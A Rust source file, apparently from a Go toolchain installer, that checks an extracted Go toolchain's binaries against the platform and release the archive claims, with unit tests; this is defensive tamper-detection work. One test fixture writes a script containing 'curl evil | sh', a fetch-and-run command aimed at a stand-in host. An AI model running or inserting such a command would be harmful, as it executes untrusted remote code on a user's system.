//! Verifies an extracted Go toolchain (a GOROOT) against the platform its archive claims,
//! before gox installs it: a mislabelled or tampered archive must not become the `go`
//! someone runs.
//!
//! Checked: `bin/go` and `bin/gofmt` (with `.exe` on Windows) and every regular file in
//! `pkg/tool/<os>_<arch>/` must be executables of the claimed OS and CPU, and the Go
//! build info of `bin/go` and `bin/gofmt` must name the claimed GOOS/GOARCH when present.
//! The build info of the `pkg/tool` binaries is not read: their headers already pin OS
//! and CPU, and scanning ~150 MB more would slow every install for little gain.
//!
//! Other `pkg/tool/<os>_<arch>/` directories are not an error: official archives only
//! contain the claimed one, and a tree that lacks it is reported together with what it
//! has instead, which names a mislabelled archive.

use std::fs;
use std::io;
use std::path::{Path, PathBuf};

use gox_core::{Platform, Version};

use crate::buildinfo::{BuildInfoError, read_buildinfo};
use crate::header::{BinaryInfo, HeaderError, read_header};

/// What [`verify_toolchain`] checked.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct TreeReport {
    /// Number of executables whose headers were checked.
    pub checked: usize,
    /// Go version from `bin/go`'s build info (`go1.22.10`); `None` before Go 1.18.
    pub go_version: Option<String>,
}

const TAMPERED: &str = "the archive is mislabelled or tampered with";

/// Why a toolchain tree was refused.
#[derive(Debug, thiserror::Error)]
pub enum VerifyError {
    #[error("{} is missing: every Go toolchain has it; the archive is incomplete or not a Go distribution", .path.display())]
    Missing { path: PathBuf },
    #[error("{} is not a regular file", .path.display())]
    NotAFile { path: PathBuf },
    #[error("{} is missing{}: {TAMPERED}", .path.display(), found_instead(.others))]
    MissingToolDir { path: PathBuf, others: Vec<String> },
    #[error("{} contains no tools: the archive is incomplete", .path.display())]
    EmptyToolDir { path: PathBuf },
    #[error("cannot read {}: {source}", .path.display())]
    Io { path: PathBuf, source: io::Error },
    #[error("{source} (expected an executable for {claimed}): {TAMPERED}")]
    NotExecutable {
        path: PathBuf,
        claimed: Platform,
        /// Boxed like `found` below: with Windows' larger `PathBuf` the variant would make
        /// every `Result<_, VerifyError>` 136 bytes.
        source: Box<HeaderError>,
    },
    #[error("{} is {} {found}, but the archive claims {claimed}: {TAMPERED}", .path.display(), .found.format.article())]
    WrongPlatform {
        path: PathBuf,
        /// Boxed to keep `Result<_, VerifyError>` small on the happy path.
        found: Box<BinaryInfo>,
        claimed: Platform,
    },
    #[error("{} was built for GOOS={} GOARCH={} (Go build info), expected {claimed}: {TAMPERED}", .path.display(), unset(.goos), unset(.goarch))]
    BuildInfoMismatch {
        path: PathBuf,
        goos: Option<String>,
        goarch: Option<String>,
        /// Boxed for the same reason as `NotExecutable`'s source.
        claimed: Box<Platform>,
    },
    #[error(
        "{} has no Go build info, which every Go from 1.18 on has: it is cut short or not Go's own \
         {}: {TAMPERED}", .path.display(), .expected
    )]
    NoBuildInfo { path: PathBuf, expected: String },
    #[error("{} was built as {built}, but the archive claims {expected}: {TAMPERED}", .path.display())]
    WrongRelease {
        path: PathBuf,
        built: String,
        expected: String,
    },
    #[error(transparent)]
    BuildInfo(#[from] BuildInfoError),
    #[error("cannot tell which platform {} is for: {detail}", .path.display())]
    Unidentified { path: PathBuf, detail: String },
}

fn found_instead(others: &[String]) -> String {
    if others.is_empty() {
        String::new()
    } else {
        format!(
            " (the archive has pkg/tool/{} instead)",
            others.join(", pkg/tool/")
        )
    }
}

fn unset(value: &Option<String>) -> &str {
    value.as_deref().unwrap_or("(unset)")
}

/// Verifies the toolchain at `goroot` (the archive's `go/` directory) against `claimed`.
pub fn verify_toolchain(goroot: &Path, claimed: &Platform) -> Result<TreeReport, VerifyError> {
    let bin = goroot.join("bin");
    let go = bin.join(format!("go{}", claimed.exe_suffix()));
    let gofmt = bin.join(format!("gofmt{}", claimed.exe_suffix()));
    require_file(&go)?;
    require_file(&gofmt)?;
    // bin/go first: "bin/go is an arm64 ELF" explains a mislabelled archive better than
    // a missing pkg/tool directory does.
    check_header(&go, claimed)?;
    check_header(&gofmt, claimed)?;
    // Without the runtime sources nothing builds; a tree missing them is a partial copy.
    require_dir(&goroot.join("src").join("runtime"))?;
    let tools = tool_files(goroot, claimed)?;
    for binary in &tools {
        check_header(binary, claimed)?;
    }
    let go_version = check_buildinfo(&go, claimed)?;
    check_buildinfo(&gofmt, claimed)?;
    Ok(TreeReport {
        checked: 2 + tools.len(),
        go_version,
    })
}

/// [`verify_toolchain`], and that the tree is the Go release it claims to be: `bin/go`'s build
/// info names that release. The platform alone would pass another version's tree under this
/// one's name (a mislabelled mirror file, the wrong `--archive`), or a `bin/go` cut short
/// after its header. Go before 1.18 records no build info, so only its platform is checked.
pub fn verify_release(
    goroot: &Path,
    claimed: &Platform,
    version: &Version,
) -> Result<TreeReport, VerifyError> {
    let report = verify_toolchain(goroot, claimed)?;
    let expected = version.go_name();
    let go = goroot
        .join("bin")
        .join(format!("go{}", claimed.exe_suffix()));
    match report.go_version.as_deref() {
        // `go1.22.10 X:boringcrypto`: an experiment built in is still that release.
        Some(built) if built.split_whitespace().next() == Some(expected.as_str()) => Ok(report),
        Some(built) => Err(VerifyError::WrongRelease {
            path: go,
            built: built.to_string(),
            expected,
        }),
        None if records_build_info(version) => Err(VerifyError::NoBuildInfo { path: go, expected }),
        None => Ok(report),
    }
}

/// Go 1.18 and later embed build info in every binary they build, their own tools included.
fn records_build_info(version: &Version) -> bool {
    let number = |s: &str| s.parse::<u32>().unwrap_or(0);
    (number(version.major()), number(version.minor())) >= (1, 18)
}

/// The one platform a toolchain tree found on disk (not from an archive with a name) is
/// built for: `bin/go`'s build info GOOS/GOARCH, else (before Go 1.18) its header when that
/// names one OS and one CPU. [`verify_toolchain`] with the answer then checks that every
/// other binary agrees, exactly as for a download.
pub fn identify_platform(goroot: &Path) -> Result<Platform, VerifyError> {
    let bin = goroot.join("bin");
    let go = [bin.join("go"), bin.join("go.exe")]
        .into_iter()
        .find(|p| p.is_file())
        .ok_or_else(|| VerifyError::Missing {
            path: bin.join("go"),
        })?;
    let header = read_header(&go).map_err(|source| VerifyError::Unidentified {
        path: go.clone(),
        detail: source.to_string(),
    })?;
    if let Some(info) = read_buildinfo(&go)?
        && let (Some(goos), Some(goarch)) = (info.goos(), info.goarch())
    {
        return Platform::new(goos, goarch).map_err(|e| VerifyError::Unidentified {
            path: go,
            detail: format!("its build info names GOOS={goos} GOARCH={goarch}: {e}"),
        });
    }
    let goos = match header.format {
        crate::Format::MachO => Some("darwin"),
        crate::Format::Pe => Some("windows"),
        crate::Format::Elf => header.os,
    };
    match (goos, header.archs.as_slice()) {
        (Some(goos), [arch]) => Platform::new(goos, arch).map_err(|e| VerifyError::Unidentified {
            path: go,
            detail: e.to_string(),
        }),
        _ => Err(VerifyError::Unidentified {
            path: go,
            detail: format!("{header}, and no Go build info says which platform it is for"),
        }),
    }
}

fn require_dir(path: &Path) -> Result<(), VerifyError> {
    match fs::metadata(path) {
        Ok(meta) if meta.is_dir() => Ok(()),
        Ok(_) | Err(_) => Err(VerifyError::Missing {
            path: path.to_path_buf(),
        }),
    }
}

fn require_file(path: &Path) -> Result<(), VerifyError> {
    match fs::metadata(path) {
        Ok(meta) if meta.is_file() => Ok(()),
        Ok(_) => Err(VerifyError::NotAFile {
            path: path.to_path_buf(),
        }),
        Err(err) if err.kind() == io::ErrorKind::NotFound => Err(VerifyError::Missing {
            path: path.to_path_buf(),
        }),
        Err(source) => Err(VerifyError::Io {
            path: path.to_path_buf(),
            source,
        }),
    }
}

/// The regular files of `pkg/tool/<os>_<arch>/`, sorted so errors are reproducible.
fn tool_files(goroot: &Path, claimed: &Platform) -> Result<Vec<PathBuf>, VerifyError> {
    let dir = goroot
        .join("pkg")
        .join("tool")
        .join(claimed.tool_dir_name());
    let entries = match fs::read_dir(&dir) {
        Ok(entries) => entries,
        Err(err) if err.kind() == io::ErrorKind::NotFound => {
            return Err(VerifyError::MissingToolDir {
                others: subdirectories(&goroot.join("pkg").join("tool")),
                path: dir,
            });
        }
        Err(source) => return Err(VerifyError::Io { path: dir, source }),
    };
    let mut files = Vec::new();
    for entry in entries {
        let path = entry
            .map_err(|source| VerifyError::Io {
                path: dir.clone(),
                source,
            })?
            .path();
        // Follows symlinks: a link to a file is checked like the file.
        if fs::metadata(&path).is_ok_and(|meta| meta.is_file()) {
            files.push(path);
        }
    }
    if files.is_empty() {
        return Err(VerifyError::EmptyToolDir { path: dir });
    }
    files.sort();
    Ok(files)
}

/// Names of the directories in `dir`, sorted; empty when it cannot be read (this only
/// decorates an error message).
fn subdirectories(dir: &Path) -> Vec<String> {
    let Ok(entries) = fs::read_dir(dir) else {
        return Vec::new();
    };
    let mut names: Vec<String> = entries
        .flatten()
        .filter(|entry| entry.file_type().is_ok_and(|kind| kind.is_dir()))
        .map(|entry| entry.file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

fn check_header(path: &Path, claimed: &Platform) -> Result<(), VerifyError> {
    let found = read_header(path).map_err(|source| VerifyError::NotExecutable {
        path: path.to_path_buf(),
        claimed: claimed.clone(),
        source: Box::new(source),
    })?;
    if found.matches_os(claimed.os()) && found.has_arch(claimed.arch()) {
        Ok(())
    } else {
        Err(VerifyError::WrongPlatform {
            path: path.to_path_buf(),
            found: Box::new(found),
            claimed: claimed.clone(),
        })
    }
}

/// Compares the build info's GOOS/GOARCH (where present) with the claim; returns the
/// Go version it records.
fn check_buildinfo(path: &Path, claimed: &Platform) -> Result<Option<String>, VerifyError> {
    let Some(info) = read_buildinfo(path)? else {
        return Ok(None);
    };
    let differs =
        |found: Option<&str>, expected: &str| found.is_some_and(|found| found != expected);
    if differs(info.goos(), claimed.os()) || differs(info.goarch(), claimed.arch()) {
        return Err(VerifyError::BuildInfoMismatch {
            path: path.to_path_buf(),
            goos: info.goos().map(str::to_string),
            goarch: info.goarch().map(str::to_string),
            claimed: Box::new(claimed.clone()),
        });
    }
    Ok(Some(info.go_version))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testdata::{Class, Order, elf, go_binary, macho, pe};

    const TOOLS: &[&str] = &["asm", "compile", "link", "vet"];

    /// A toolchain tree with fake binaries: `header` for each executable, and build info
    /// naming `goos`/`goarch` in bin/go and bin/gofmt.
    fn tree(platform: &str, header: &[u8], goos: &str, goarch: &str) -> tempfile::TempDir {
        let claimed: Platform = platform.parse().unwrap();
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        let exe = claimed.exe_suffix();
        fs::create_dir_all(root.join("bin")).unwrap();
        let tools = root.join("pkg/tool").join(claimed.tool_dir_name());
        fs::create_dir_all(&tools).unwrap();
        for name in ["go", "gofmt"] {
            let path = root.join("bin").join(format!("{name}{exe}"));
            fs::write(path, go_binary(header, goos, goarch)).unwrap();
        }
        for name in TOOLS {
            fs::write(tools.join(format!("{name}{exe}")), header).unwrap();
        }
        fs::create_dir_all(root.join("src/cmd/go")).unwrap();
        fs::create_dir_all(root.join("src/runtime")).unwrap();
        fs::write(root.join("VERSION"), "go1.22.10\n").unwrap();
        dir
    }

    fn linux_amd64_tree() -> tempfile::TempDir {
        tree(
            "linux/amd64",
            &elf(62, Class::B64, Order::Little),
            "linux",
            "amd64",
        )
    }

    fn platform(s: &str) -> Platform {
        s.parse().unwrap()
    }

    #[test]
    fn accepts_a_consistent_tree() {
        let dir = linux_amd64_tree();
        let report = verify_toolchain(dir.path(), &platform("linux/amd64")).unwrap();
        assert_eq!(report.checked, 2 + TOOLS.len());
        assert_eq!(report.go_version.as_deref(), Some("go1.22.10"));
    }

    #[test]
    fn accepts_darwin_and_windows_trees() {
        let darwin = tree(
            "darwin/arm64",
            &macho(0x0100_000c, true, Order::Little),
            "darwin",
            "arm64",
        );
        verify_toolchain(darwin.path(), &platform("darwin/arm64")).unwrap();
        let windows = tree("windows/amd64", &pe(0x8664, 0x80), "windows", "amd64");
        verify_toolchain(windows.path(), &platform("windows/amd64")).unwrap();
    }

    #[test]
    fn wrong_arch_in_pkg_tool_is_named() {
        let dir = linux_amd64_tree();
        let compile = dir.path().join("pkg/tool/linux_amd64/compile");
        fs::write(&compile, elf(183, Class::B64, Order::Little)).unwrap();
        let err = verify_toolchain(dir.path(), &platform("linux/amd64")).unwrap_err();
        let VerifyError::WrongPlatform { path, found, .. } = &err else {
            panic!("unexpected {err:?}");
        };
        assert_eq!(path, &compile);
        assert_eq!(found.archs, vec!["arm64"]);
        let message = err.to_string();
        assert!(
            message.ends_with(
                "compile is an ELF executable for linux, arm64 (AArch64, ELF e_machine 183), \
                 but the archive claims linux/amd64: the archive is mislabelled or tampered with"
            ),
            "{message}"
        );
    }

    #[test]
    fn missing_gofmt_is_named() {
        let dir = linux_amd64_tree();
        fs::remove_file(dir.path().join("bin/gofmt")).unwrap();
        let err = verify_toolchain(dir.path(), &platform("linux/amd64")).unwrap_err();
        assert!(
            matches!(&err, VerifyError::Missing { path } if path.ends_with("bin/gofmt")),
            "{err:?}"
        );
        let named = Path::new("bin").join("gofmt");
        assert!(
            err.to_string()
                .contains(&format!("{} is missing", named.display())),
            "{err}"
        );
    }

    #[test]
    fn mislabelled_platform_is_refused() {
        // A darwin/arm64 archive whose contents are linux/amd64.
        let dir = tree(
            "darwin/arm64",
            &elf(62, Class::B64, Order::Little),
            "linux",
            "amd64",
        );
        let err = verify_toolchain(dir.path(), &platform("darwin/arm64")).unwrap_err();
        let VerifyError::WrongPlatform {
            path,
            found,
            claimed,
        } = &err
        else {
            panic!("unexpected {err:?}");
        };
        assert!(path.ends_with("bin/go"));
        assert_eq!(found.format, crate::Format::Elf);
        assert_eq!(claimed.to_string(), "darwin/arm64");
    }

    #[test]
    fn missing_tool_dir_names_what_is_there() {
        let dir = linux_amd64_tree();
        let tools = dir.path().join("pkg/tool");
        fs::rename(tools.join("linux_amd64"), tools.join("linux_arm64")).unwrap();
        // bin/go is fine (amd64), so the misplaced tool dir is what gets reported.
        let err = verify_toolchain(dir.path(), &platform("linux/amd64")).unwrap_err();
        let message = err.to_string();
        assert!(
            matches!(err, VerifyError::MissingToolDir { .. }),
            "{message}"
        );
        assert!(
            message
                .contains("linux_amd64 is missing (the archive has pkg/tool/linux_arm64 instead)"),
            "{message}"
        );
    }

    #[test]
    fn empty_tool_dir_is_refused() {
        let dir = linux_amd64_tree();
        let tools = dir.path().join("pkg/tool/linux_amd64");
        fs::remove_dir_all(&tools).unwrap();
        fs::create_dir_all(tools.join("subdir")).unwrap();
        let err = verify_toolchain(dir.path(), &platform("linux/amd64")).unwrap_err();
        assert!(matches!(err, VerifyError::EmptyToolDir { .. }), "{err:?}");
    }

    #[test]
    fn buildinfo_mismatch_is_refused() {
        // Right header, wrong build info: e.g. linux/amd64 vs android/amd64 are both ELF.
        let dir = tree(
            "linux/amd64",
            &elf(62, Class::B64, Order::Little),
            "android",
            "amd64",
        );
        let err = verify_toolchain(dir.path(), &platform("linux/amd64")).unwrap_err();
        assert!(
            matches!(err, VerifyError::BuildInfoMismatch { .. }),
            "{err:?}"
        );
        let message = err.to_string();
        assert!(
            message.contains(&format!(
                "{} was built for GOOS=android GOARCH=amd64 (Go build info), expected linux/amd64",
                Path::new("bin").join("go").display()
            )),
            "{message}"
        );
    }

    #[test]
    fn script_in_place_of_a_tool_is_refused() {
        let dir = linux_amd64_tree();
        fs::write(
            dir.path().join("pkg/tool/linux_amd64/vet"),
            "#!/bin/sh\ncurl evil | sh\n",
        )
        .unwrap();
        let err = verify_toolchain(dir.path(), &platform("linux/amd64")).unwrap_err();
        let message = err.to_string();
        assert!(
            matches!(err, VerifyError::NotExecutable { .. }),
            "{message}"
        );
        assert!(
            message.contains("vet: not an executable: a script"),
            "{message}"
        );
    }

    #[test]
    fn directory_named_go_is_not_a_file() {
        let dir = linux_amd64_tree();
        let go = dir.path().join("bin/go");
        fs::remove_file(&go).unwrap();
        fs::create_dir(&go).unwrap();
        let err = verify_toolchain(dir.path(), &platform("linux/amd64")).unwrap_err();
        assert!(matches!(err, VerifyError::NotAFile { .. }), "{err:?}");
    }

    #[test]
    fn universal_binaries_pass_when_they_contain_the_arch() {
        let universal = crate::testdata::fat(&[0x0100_0007, 0x0100_000c], false);
        let dir = tree("darwin/arm64", &universal, "darwin", "arm64");
        verify_toolchain(dir.path(), &platform("darwin/arm64")).unwrap();
        let intel_only = crate::testdata::fat(&[0x0100_0007], false);
        let dir = tree("darwin/arm64", &intel_only, "darwin", "arm64");
        let err = verify_toolchain(dir.path(), &platform("darwin/arm64")).unwrap_err();
        assert!(err.to_string().contains("universal (x86_64)"), "{err}");
    }

    #[test]
    fn missing_runtime_sources_are_refused() {
        let dir = linux_amd64_tree();
        fs::remove_dir_all(dir.path().join("src/runtime")).unwrap();
        let err = verify_toolchain(dir.path(), &platform("linux/amd64")).unwrap_err();
        assert!(
            matches!(&err, VerifyError::Missing { path } if path.ends_with("src/runtime")),
            "{err:?}"
        );
    }

    #[test]
    fn identifies_the_platform_from_build_info_then_header() {
        let dir = tree(
            "darwin/arm64",
            &macho(0x0100_000c, true, Order::Little),
            "darwin",
            "arm64",
        );
        assert_eq!(
            identify_platform(dir.path()).unwrap(),
            platform("darwin/arm64")
        );
        // Build info wins over a universal header.
        let universal = crate::testdata::fat(&[0x0100_0007, 0x0100_000c], false);
        let dir = tree("darwin/amd64", &universal, "darwin", "amd64");
        assert_eq!(
            identify_platform(dir.path()).unwrap(),
            platform("darwin/amd64")
        );
        // No build info (pre-1.18): a single-arch header decides.
        let windows = tree("windows/amd64", &pe(0x8664, 0x80), "windows", "amd64");
        fs::write(windows.path().join("bin/go.exe"), pe(0x8664, 0x80)).unwrap();
        assert_eq!(
            identify_platform(windows.path()).unwrap(),
            platform("windows/amd64")
        );
        let empty = tempfile::tempdir().unwrap();
        let err = identify_platform(empty.path()).unwrap_err();
        assert!(matches!(err, VerifyError::Missing { .. }), "{err:?}");
        let script = tempfile::tempdir().unwrap();
        fs::create_dir_all(script.path().join("bin")).unwrap();
        fs::write(script.path().join("bin/go"), "#!/bin/sh\n").unwrap();
        let err = identify_platform(script.path()).unwrap_err();
        assert!(matches!(err, VerifyError::Unidentified { .. }), "{err:?}");
    }

    #[test]
    fn the_release_is_the_one_claimed() {
        let dir = linux_amd64_tree();
        let linux = platform("linux/amd64");
        let v = |s: &str| Version::parse(s).unwrap();
        // The fake bin/go was built as go1.22.10.
        verify_release(dir.path(), &linux, &v("1.22.10")).unwrap();
        let err = verify_release(dir.path(), &linux, &v("1.21.13")).unwrap_err();
        assert!(
            matches!(&err, VerifyError::WrongRelease { built, expected, .. }
                if built == "go1.22.10" && expected == "go1.21.13"),
            "{err}"
        );
        assert!(err.to_string().contains("mislabelled or tampered"), "{err}");

        // A bin/go cut short after its header has no build info: refused from Go 1.18 on,
        // accepted for older releases, whose binaries never carry it.
        let go = dir.path().join("bin/go");
        let bytes = fs::read(&go).unwrap();
        fs::write(&go, &bytes[..4096]).unwrap();
        let err = verify_release(dir.path(), &linux, &v("1.22.10")).unwrap_err();
        assert!(matches!(err, VerifyError::NoBuildInfo { .. }), "{err}");
        assert!(err.to_string().contains("cut short"), "{err}");
        verify_release(dir.path(), &linux, &v("1.17.13")).unwrap();
    }
}
